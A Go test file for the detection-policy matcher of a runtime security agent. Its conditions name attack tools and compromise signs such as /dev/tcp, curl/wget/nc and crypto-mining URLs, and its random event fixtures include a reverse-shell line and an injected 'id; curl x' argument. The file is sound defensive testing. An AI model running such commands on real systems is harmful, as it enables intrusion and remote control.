package policy_test

import (
	"context"
	"encoding/json"
	"fmt"
	"math/rand/v2"
	"net/netip"
	"runtime"
	"strings"
	"testing"
	"time"

	"golang.org/x/sync/errgroup"

	"github.com/bollwerk/bollwerk"
	"github.com/bollwerk/bollwerk/policy"
)

// conditions use everything that the matcher compiles.
var conditions = []string{
	`event.kind == "exec"`,
	`event.kind != "exec"`,
	`event.kind in ["open", "create"] && event.file.path.startsWith("/etc/")`,
	`!(event.kind in ["open", "create"]) || event.file.write`,
	`!(event.kind == "open" && event.file.read)`,
	`event.kind.startsWith("e") && event.kind > "d"`,
	`event.process.name == "sh" || event.process.name == "bash" || event.process.name in ["dash", "zsh", "ash", "fish"]`,
	`event.process.name != "sh" && event.process.name != "bash"`,
	`"sh" == event.process.name`,
	`event.process.parent.name == event.process.name`,
	`event.process.parent.parent.parent.name == ""`,
	`event.process.uid == 0`, `event.process.uid in [0, 33, 1000]`, `event.process.uid in [0, 1, 2, 3, 4, 5, 6, 7, 8, 33]`,
	`event.process.parent.uid == -1`,
	`event.process.uid < event.process.euid`, `event.process.uid <= 0 || event.process.uid >= 1000`,
	`event.process.pid + 1 > 100 && event.process.pid * 2 - 3 < 9000`,
	`event.process.pid / 10 == 0 || event.process.pid % 3 == 1`, `-event.process.pid < -50`,
	`math.bitAnd(event.file.mode, 2048) != 0 || math.bitOr(event.file.mode, 1) == 1`,
	`event.process.ancestors.exists(a, a.name == "nginx")`,
	`event.process.ancestors.all(a, a.uid == 0)`,
	`event.process.ancestors.exists_one(a, a.name in ["sh", "nginx"])`,
	`event.process.ancestors.exists(a, a.args.exists(x, x == "-c") && a.uid == event.process.uid)`,
	`event.process.ancestors.exists(a, a.parent.name == "init" && !a.ancestors.exists(b, b.name == "nginx"))`,
	`event.process.ancestors.exists(a, event.process.args.exists(x, x.contains(a.name) && a.args.all(y, y != x)))`,
	`size(event.process.ancestors) > 1`, `size(event.process.args) == 3`, `size(event.process.name) == 2`, `event.process.name.size() > 3`,
	`size(event.process.args.filter(x, x.startsWith("-"))) >= 1`,
	`size(event.process.ancestors.filter(a, a.uid == 0)) == size(event.process.ancestors)`,
	`event.process.args.exists(a, a.startsWith("-")) && event.process.args.all(a, size(a) < 40)`,
	`event.process.command.contains("/dev/tcp") || event.process.arguments.matches("(?i)stratum\\+(tcp|ssl)://")`,
	`event.process.command.glob("*sh*-c*") || event.process.path.globAny(["/usr/*/sh", "/bin/?ash"])`,
	`event.process.path.glob(event.process.name + "*") || event.process.path.endsWith("/" + event.process.name)`,
	`event.process.command.containsAny(["curl", "wget", "nc "]) || event.process.command.icontains("DEV/TCP")`,
	`event.process.name.startsWithAny(["py", "pe", "ng"]) || event.process.path.endsWithAny(["sh", "nx"])`,
	`event.process.path.under(["/tmp", "/dev/shm", "/var/tmp/"])`,
	`event.process.exe_dir in ["/bin", "/usr/bin"] && event.process.exe_name != event.process.name`,
	`event.process.name.lowerAscii() == "sh" || event.process.env.exists(v, v.lowerAscii().startsWith("ld_preload="))`,
	`"-c" in event.process.args`, `event.process.name in event.process.args`, `event.process.name in [event.process.parent.name, event.process.parent.parent.name]`,
	`[event.file.path, event.file.target].exists(p, p.under(["/etc", "/root"]))`,
	`["a", "sh"].exists(n, event.process.name == n) || [1, 33].all(n, event.process.uid != n)`,
	`"CAP_SYS_ADMIN" in event.process.capabilities`, `event.process.capabilities.exists(c, c in ["CAP_BPF", "CAP_SYS_PTRACE"])`,
	`event.change.gained.exists(c, c == "CAP_SYS_ADMIN") || event.change.became_root`,
	`event.connection.remote_address.inNetwork(["10.0.0.0/8", "169.254.169.254", "fd00::/8", "203.0.113.0/24"])`,
	`event.connection.remote_address == "169.254.169.254" && event.connection.remote_port == 80`,
	`event.connection.public && !event.connection.private && !event.connection.loopback && event.connection.outgoing`,
	`event.dns.addresses.exists(a, a.inNetwork(["10.0.0.0/8"]) || a == "203.0.113.9")`, `event.process.name.inNetwork(["10.0.0.0/8"])`,
	`event.dns.name.endsWith(".example.com") && event.dns.type in ["TXT", "NULL"] && size(event.dns.name) > 10`,
	`has(event.file) && !has(event.connection)`, `has(event.process.parent) && has(event.process.parent.name)`, `has(event.container.labels.app) || has(event.pod)`,
	`event.container.labels.app == "web" || event.container.labels["role"] == "db"`, `"app" in event.container.labels && size(event.container.labels) == 1`,
	`event.container.labels[event.process.name] != ""`,
	`event.in_container ? event.process.uid == 0 : event.process.contained`, `(event.in_container ? event.process.name : event.process.path) == "sh"`,
	`(event.process.uid == 0 ? 1 : event.process.pid) > 5`, `(event.in_container ? event.process.args : event.process.env).exists(x, x.contains("="))`,
	`event.workload == "host" || event.workload.startsWith("shop/")`, `event.container.repository.endsWith("nginx") && event.container.tag != "latest"`,
	`event.process.stdio_socket && event.process.stdio_remote != "" && event.process.stdio_port > 1024`,
	`cel.bind(p, event.process.parent, p.name == "nginx" && p.uid != 33)`,
	`event.in_container == event.process.contained`, `event.in_container == true && event.process.setuid == false`, `(event.process.uid == 0) != event.in_container`,
	`string(event.process.pid) + ":" + event.process.name == "7:sh"`, `event.process.args.join(" ") == event.process.command`,
	`event.file.written.under(["/etc/cron.d"]) || event.file.written == "/etc/ld.so.preload"`,
	`event.flow.sent_bytes > 1000000 && event.flow.seconds < 60`, `event.usage.cpu_percent > 90`, `event.loss.count > 0 || event.count > 1`,
	`event.namespace.to_host && "mnt" in event.namespace.kinds`, `event.mount.read_only || event.mount.bind || event.mount.type in ["proc", "sysfs"]`,
	`event.object.name.endsWith("core_pattern") && event.object.value.startsWith("|")`, `event.signal in [9, 15] && event.target.pid == event.process.pid`,
	`event.target.ancestors.exists(a, a.name == event.process.name)`,
	`params.names.exists(n, event.process.name.glob(n)) || event.process.uid >= params.limit || event.process.name in params.names || params.on`,
}

func withParameters(p *policy.Policy) *policy.Policy {
	p.Parameters = []policy.Parameter{
		{Name: "names", Type: policy.List(policy.Text()), Default: []any{"s?", "nginx"}}, {Name: "limit", Type: policy.Int(), Default: int64(1000)},
		{Name: "on", Type: policy.Bool(), Default: false},
	}
	return p
}

// randomEvent makes an event out of few words, so that conditions hold often.
func randomEvent(r *rand.Rand) *bollwerk.Event {
	pick := func(words ...string) string { return words[r.IntN(len(words))] }
	maybe := func() bool { return r.IntN(3) == 0 }
	number := func(of ...uint64) uint64 { return of[r.IntN(len(of))] }
	addr := func() netip.AddrPort {
		if maybe() {
			return netip.AddrPort{}
		}
		a := netip.MustParseAddr(pick("10.1.2.3", "169.254.169.254", "203.0.113.9", "::ffff:203.0.113.9", "fd00::1", "127.0.0.1", "8.8.8.8", "::1", "100.64.0.1", "0.0.0.0", "fe80::1", "224.0.0.1"))
		return netip.AddrPortFrom(a, uint16(number(0, 22, 53, 80, 443, 4444)))
	}
	path := func() string {
		return pick("", "/bin/sh", "/usr/bin/dash", "/tmp/x", "/dev/shm/a", "/etc/passwd", "/etc/cron.d/x", "/etcetera", "/etc/ld.so.preload", "x", "/", "/usr/sbin/nginx", "/tmp", "/var/tmp", "\xff\x00\x1b[2J", "/root/.ssh/authorized_keys")
	}
	var process func(depth int) *bollwerk.Process
	process = func(depth int) *bollwerk.Process {
		if depth > 5 || r.IntN(6) == 0 {
			return nil
		}
		p := &bollwerk.Process{PID: uint32(number(1, 7, 60, 4000)), NSID: uint32(r.IntN(3)), Start: uint64(r.IntN(9)), Name: pick("sh", "bash", "dash", "nginx", "init", "python3", "", "SH", "zsh", "10.9.9.9"),
			Path: path(), Cwd: path(), UID: uint32(number(0, 33, 1000, 4294967295)), EUID: uint32(number(0, 33, 1000)), LoginUID: uint32(number(0, 1000, 4294967295)),
			TTY: pick("", "pts/0"), Capabilities: number(0, 1<<21, 1<<39|1<<19, 1<<41-1), Mode: uint32(number(0, 0o100755, 0o104755)), Contained: maybe(), Fileless: maybe(),
			Origin: bollwerk.Origin(pick("", "image", "created")), Parent: process(depth + 1)}
		for range r.IntN(4) {
			p.Args = append(p.Args, pick("sh", "-c", "", "id; curl x", "bash -i >& /dev/tcp/1.2.3.4/5", "stratum+tcp://pool", "--flag=1", "é\xff"))
		}
		for range r.IntN(2) {
			p.Env = append(p.Env, pick("LD_PRELOAD=/tmp/x.so", "PATH=/bin", "ld_preload=", ""))
		}
		if maybe() {
			p.Stdio = []bollwerk.OpenFile{{FD: r.IntN(4), Kind: pick("socket", "pipe", "tty"), Protocol: pick("tcp", "unix"), Remote: addr()}}
		}
		return p
	}
	e := &bollwerk.Event{Kind: bollwerk.EventKind(r.IntN(bollwerk.EventKinds + 1)), Time: time.Unix(1_800_000_000, 0), Process: process(0), Result: int32(r.IntN(2) * 115), Count: number(0, 1, 5)}
	if maybe() {
		e.Kind = bollwerk.EventExec
	}
	switch r.IntN(3) {
	case 0:
		e.Workload = &bollwerk.Workload{Kind: bollwerk.WorkloadContainer, Container: &bollwerk.Container{ID: "0123456789abcdef", Name: pick("", "web"),
			Image: pick("", "docker.io/library/nginx:1.27", "localhost:5000/nginx", "nginx@sha256:ab"), Labels: map[string]string{pick("app", "role", "sh"): pick("web", "db")}}}
		if maybe() {
			e.Workload.Pod = &bollwerk.Pod{Namespace: "shop", Name: "cart", Container: "app"}
		}
	case 1:
		e.Workload = &bollwerk.Workload{Kind: bollwerk.WorkloadUnit, Unit: "nginx.service"}
	}
	if maybe() {
		e.File = &bollwerk.FileEvent{Path: path(), Target: path(), Access: bollwerk.Access(r.IntN(64)), Mode: uint32(number(0, 0o100644, 0o104755)), OldMode: uint32(number(0, 0o100644))}
	}
	if maybe() {
		e.Connection = &bollwerk.Connection{Protocol: pick("tcp", "udp", "raw"), Local: addr(), Remote: addr(), Outgoing: maybe()}
	}
	if maybe() {
		e.DNS = &bollwerk.DNS{Name: pick("a.b.example.com", "x", ""), Type: pick("A", "TXT"), Addresses: []netip.Addr{addr().Addr()}}
	}
	if maybe() {
		e.Change = &bollwerk.Change{OldEUID: uint32(number(0, 33)), EUID: 0, Capabilities: number(0, 1<<21)}
	}
	if maybe() {
		e.Object = &bollwerk.Object{Name: pick("/proc/sys/kernel/core_pattern", "x"), Value: pick("|/tmp/x", "core")}
		e.Mount = &bollwerk.Mount{Type: pick("proc", "ext4"), Flags: number(0, 1, 4096)}
		e.Namespace = &bollwerk.Namespace{Kinds: []string{pick("mnt", "net")}, ToHost: maybe()}
		e.Usage = &bollwerk.Usage{Window: time.Minute, CPU: time.Duration(r.IntN(120)) * time.Second}
		e.Flow = &bollwerk.Flow{SentBytes: number(0, 1<<30, 1<<63+5), To: time.Unix(30, 0), From: time.Unix(0, 0)}
	}
	if maybe() {
		e.Target, e.Signal = process(0), r.IntN(16)
	}
	return e
}

func matcher(t testing.TB, ps ...*policy.Policy) *policy.Matcher {
	t.Helper()
	m, problems := policy.NewMatcher(ps, policy.MatcherOptions{})
	for _, p := range problems {
		t.Error(p)
	}
	return m
}

// differ compares the matcher with CEL's evaluator.
func differ(t testing.TB, e *policy.Engine, m *policy.Matcher, s *policy.Scratch, ps []*policy.Policy, event *bollwerk.Event) {
	t.Helper()
	matched := map[*policy.Policy]bool{}
	for _, p := range m.Match(s, event) {
		matched[p] = true
	}
	ds, err := e.Evaluate(context.Background(), policy.EventKind, event, ps)
	if err != nil {
		t.Fatal(err)
	}
	for _, d := range ds {
		want := d.Verdict == bollwerk.Fail
		if d.Verdict != bollwerk.Fail && d.Verdict != bollwerk.Pass {
			t.Fatalf("%s: %s: %s", d.Policy.Match.Text, d.Verdict, d.Cause)
		}
		if matched[d.Policy] != want {
			b, _ := json.Marshal(event)
			t.Errorf("%s\n  when %s\n  matcher %v, CEL %v\n%s", d.Policy.Match.Text, d.Policy.When.Text, matched[d.Policy], want, b)
			continue
		}
		if want {
			message, fix := m.Texts(s, event, d.Policy)
			if message != d.Message || fix != d.Fix {
				t.Errorf("%s: the matcher says\n  %q %q\nand CEL\n  %q %q", d.Policy.ID, message, fix, d.Message, d.Fix)
			}
		}
	}
}

func TestMatcherIsCEL(t *testing.T) {
	t.Parallel()
	var ps []*policy.Policy
	for i, c := range conditions {
		p := withParameters(eventPolicy(fmt.Sprintf("c%d", i), c))
		p.Message.Text = `{{ event.process.name }} {{ event.process.pid }} {{ event.in_container }} {{ event.process.command }}: {{ event.connection.remote_address }} {{ event.process.args.enumerate(2) }}{{ plural(size(event.process.args), "one", "many") }} {{ event.file.path + "!" }}`
		if i%3 == 1 {
			p.When = policy.Expression{Text: `event.kind in ["exec", "open", "connect"] || event.in_container`, Line: 1}
		}
		ps = append(ps, p)
	}
	m := matcher(t, ps...)
	e := engine(t, policy.Options{})
	s := &policy.Scratch{}
	r := rand.New(rand.NewPCG(1, 2))
	n := 300
	if testing.Short() {
		n = 40
	}
	hits := map[*policy.Policy]int{}
	for range n {
		event := randomEvent(r)
		differ(t, e, m, s, ps, event)
		if t.Failed() {
			return
		}
		for _, p := range m.Match(s, event) {
			hits[p]++
		}
	}
	for range n * 30 {
		for _, p := range m.Match(s, randomEvent(r)) {
			hits[p]++
		}
	}
	for _, p := range ps {
		if hits[p] == 0 && !testing.Short() {
			t.Errorf("never held, so that nothing was compared: %s", p.Match.Text)
		}
	}
}

func TestMatcherRefuses(t *testing.T) {
	for condition, want := range map[string]string{
		`event.kind == "exce"`:                                          `event.kind == "exce": no event is of kind "exce"; did you mean "exec"?`,
		`event.process.args[0] == "x"`:                                  "a place in a list is not compiled for events",
		`event.process.name.matches(event.process.path)`:                "the pattern must be written out or be a parameter",
		`event.process.uid > 1.5`:                                       "numbers with a point are not compiled",
		`event.process.pid / event.process.uid == 1`:                    "the divisor must be written out",
		`event.process.pid / 0 == 1`:                                    "the divisor must be written out",
		`now > timestamp("2026-01-01T00:00:00Z") && event.in_container`: "now is the time of a scan",
		`event.time > timestamp("2026-01-01T00:00:00Z")`:                "times are not compiled",
		`event.process == event.target`:                                 "only texts, whole numbers and true or false are compared",
		`event.process.args == ["a"]`:                                   "only texts, whole numbers and true or false are compared",
		`event.process.args.map(a, a + "x").exists(a, a == "bx")`:       "filter and map are only compiled inside size()",
		`event.process.name.split("a").exists(a, a == "b")`:             "split is not compiled for events",
		`event.process.name.globAny(event.process.args)`:                "the list of globAny must be written out or be a parameter",
		`event.container.labels.exists(k, k == "a")`:                    "only lists of texts and the ancestors",
		`event.process.name == "a" && false`:                            "never holds for any event",
		`event.kind == "exec" && event.kind == "open"`:                  "never holds for any event",
		`event.process.name.inNetwork(["10.0.0.0/99"])`:                 `network "10.0.0.0/99"`,
		`{"a": 1}.exists(k, k == event.process.name)`:                   "maps and messages are not compiled",
		`event.process.name.matches("(")`:                               "missing closing",
	} {
		m, problems := policy.NewMatcher([]*policy.Policy{eventPolicy("t", condition)}, policy.MatcherOptions{})
		if len(problems) != 1 || !strings.Contains(problems[0].Message, want) || m.Policies() != 0 || problems[0].File != "t" || problems[0].Line != 1 {
			t.Errorf("%s: %+v, want %q", condition, problems, want)
		}
	}
	lint := engine(t, policy.Options{}).Lint(eventPolicy("t", `event.process.args[0] == "x"`), nil)
	if len(lint) == 0 || !strings.Contains(lint[len(lint)-1].Message+lint[0].Message, "a place in a list") {
		t.Errorf("lint does not say what the matcher refuses: %v", lint)
	}
	p := eventPolicy("t", "")
	p.Violations = policy.Expression{Text: "event.process.args", Line: 3}
	if _, problems := policy.NewMatcher([]*policy.Policy{p}, policy.MatcherOptions{}); len(problems) != 1 || !strings.Contains(problems[0].Message, "write match") {
		t.Error(problems)
	}
}

func TestWatches(t *testing.T) {
	m := matcher(t,
		eventPolicy("a", `event.kind == "open" && event.file.read && event.file.path in ["/etc/shadow", "/etc/gshadow"]`),
		eventPolicy("b", `event.file.written.under(["/etc/cron.d", "/root/.ssh/"]) || event.file.written.startsWith("/usr/lib/x")`),
		eventPolicy("c", `event.kind == "create" && event.file.path == "/never"`),
		eventPolicy("d", `event.kind == "exec" && event.process.path == "/bin/sh"`),
		eventPolicy("e", `event.file.path.glob("/home/*/.ssh/id_*") || event.file.name == "x" || event.file.path == ""`),
	)
	want := "[{*/x false true false} {/etc/cron.d true false true} {/etc/gshadow false false false} {/etc/shadow false false false} {/home/*/.ssh/id_* false true false} {/root/.ssh true false true} {/usr/lib/x* false true true}]"
	if got := fmt.Sprint(m.Watches(bollwerk.EventOpen)); got != want {
		t.Errorf("%s\nwant %s", got, want)
	}
	if got := fmt.Sprint(m.Kinds(nil)); !strings.Contains(got, "exec") || !strings.Contains(got, "open") {
		t.Error(got)
	}
	var d *policy.Policy
	for _, p := range m.Match(&policy.Scratch{}, &bollwerk.Event{Kind: bollwerk.EventExec, Process: &bollwerk.Process{Path: "/bin/sh"}}) {
		if p.ID == "d" {
			d = p
		}
	}
	if d == nil || fmt.Sprint(m.Kinds(d)) != "[exec]" {
		t.Error(d)
	}
}

// What a Matcher keeps is its functions and sets: the agent has 48 MiB for
// everything, and CEL's environments would take a good part of them.
func TestMatcherKeepsLittle(t *testing.T) {
	ps := shippedEvents(t)
	matcher(t, ps...) // what CEL itself keeps for ever is there after the first one
	heap := func() uint64 {
		runtime.GC()
		runtime.GC()
		var m runtime.MemStats
		runtime.ReadMemStats(&m)
		return m.HeapAlloc
	}
	before := heap()
	m := matcher(t, ps...)
	kept := int64(heap()) - int64(before)
	t.Logf("%d policies keep %d KiB", m.Policies(), kept>>10)
	if kept > 2<<20 {
		t.Errorf("%d policies keep %d KiB, want at most 2 MiB", m.Policies(), kept>>10)
	}
	runtime.KeepAlive(m)
}

// Translated rules write their lists out, and their macros in.
func TestMatcherTakesLargeConditions(t *testing.T) {
	t.Parallel()
	var list, or, and strings.Builder
	for i := range 5000 {
		fmt.Fprintf(&list, "%q, ", fmt.Sprintf("program-%d", i))
	}
	for i := range 2000 {
		fmt.Fprintf(&or, " || event.process.parent.name == 'p%d'", i)
		fmt.Fprintf(&and, " && event.process.exe_name != 'p%d'", i)
	}
	nested := strings.Repeat("(event.in_container || ", 60) + "event.process.uid == 0" + strings.Repeat(")", 60)
	m := matcher(t, eventPolicy("t", "event.kind == 'exec' && (event.process.name in ["+list.String()+"] || event.process.uid == 7"+or.String()+") && event.process.pid == 1"+and.String()+" && "+nested))
	s := &policy.Scratch{}
	p := &bollwerk.Process{PID: 1, Name: "program-4999", Path: "/bin/x"}
	e := &bollwerk.Event{Kind: bollwerk.EventExec, Process: p}
	for change, want := range map[string]bool{"": true, "name": false, "parent": true, "path": false} {
		*p = bollwerk.Process{PID: 1, Name: "program-4999", Path: "/bin/x"}
		switch change {
		case "name":
			p.Name = "program-5000"
		case "parent":
			p.Name, p.Parent = "x", &bollwerk.Process{Name: "p1999"}
		case "path":
			p.Path = "/bin/p1999"
		}
		if got := len(m.Match(s, e)) == 1; got != want {
			t.Errorf("%s: %v", change, got)
		}
	}
}

// The arguments are a part of the command line, and are searched with its filter; but
// a command line that is cut ends before its arguments do.
func TestMatcherSearchesCutLines(t *testing.T) {
	var ps []*policy.Policy
	for i, c := range []string{
		`event.process.arguments.containsAny(["needle", "pin", "nail", "tack"])`, `event.process.command.containsAny(["needle", "pin", "nail", "tack"])`,
		`event.process.arguments.matches("needl.$|p[i]ns")`, `event.process.arguments.glob("*needle")`,
	} {
		ps = append(ps, eventPolicy(fmt.Sprintf("c%d", i), c))
	}
	m, e, s := matcher(t, ps...), engine(t, policy.Options{}), &policy.Scratch{}
	want := map[int]int{10: 4, 50: 3, 200: 0}
	for room, found := range want {
		p := &bollwerk.Process{Args: []string{strings.Repeat("p", 20), strings.Repeat("a", 32<<10-60+room-10), "needle"}}
		event := &bollwerk.Event{Kind: bollwerk.EventExec, Process: p}
		differ(t, e, m, s, ps, event)
		if got := len(m.Match(s, event)); got != found {
			t.Errorf("%d letters: %d of 4 found, want %d", len(p.Args[1]), got, found)
		}
	}
}

// One Matcher serves several goroutines, each with a Scratch of its own, and a
// Scratch may go from one Matcher to another.
func TestMatcherIsShared(t *testing.T) {
	t.Parallel()
	ps := shippedEvents(t)
	m, other := shippedMatcher(t), matcher(t, ps[:20]...)
	r := rand.New(rand.NewPCG(8, 9))
	events := caseEvents(t, ps)
	for range 100 {
		events = append(events, randomEvent(r))
	}
	names := func(m *policy.Matcher, s *policy.Scratch, e *bollwerk.Event) string {
		var ids []string
		for _, p := range m.Match(s, e) {
			ids = append(ids, p.ID)
		}
		return strings.Join(ids, " ")
	}
	want, wantOther := make([]string, len(events)), make([]string, len(events))
	for i, e := range events {
		want[i], wantOther[i] = names(m, &policy.Scratch{}, e), names(other, &policy.Scratch{}, e)
	}
	var g errgroup.Group
	for range 4 {
		g.Go(func() error {
			s := &policy.Scratch{}
			for i, e := range events {
				if got := names(m, s, e); got != want[i] {
					return fmt.Errorf("event %d: %q, want %q", i, got, want[i])
				}
				if got := names(other, s, e); got != wantOther[i] {
					return fmt.Errorf("event %d, the other matcher: %q, want %q", i, got, wantOther[i])
				}
			}
			return nil
		})
	}
	if err := g.Wait(); err != nil {
		t.Error(err)
	}
}

// TestUnknownMode: a mode that nobody knows is no mode without rights.
func TestUnknownMode(t *testing.T) {
	for condition, want := range map[string][3]bool{ // not known, had none, had them
		`event.file.made_executable`: {false, true, false},
		`event.file.old_mode == -1`:  {true, false, false},
		`event.kind == "chmod" && math.bitAnd(event.file.mode, 73) != 0 && math.bitAnd(event.file.old_mode, 73) == 0`: {false, true, false},
		`event.file.setuid`: {true, true, false}, // nothing says that it had the bit
	} {
		m := matcher(t, eventPolicy("t", condition))
		for i, old := range []uint32{0, 0o100644, 0o104755} {
			var s policy.Scratch
			e := &bollwerk.Event{Kind: bollwerk.EventChmod, Process: &bollwerk.Process{Name: "chmod"}, File: &bollwerk.FileEvent{Path: "/usr/bin/x", Mode: 0o104755, OldMode: old}}
			if got := len(m.Match(&s, e)) == 1; got != want[i] {
				t.Errorf("%s after %o: %v, want %v", condition, old, got, want[i])
			}
		}
	}
}
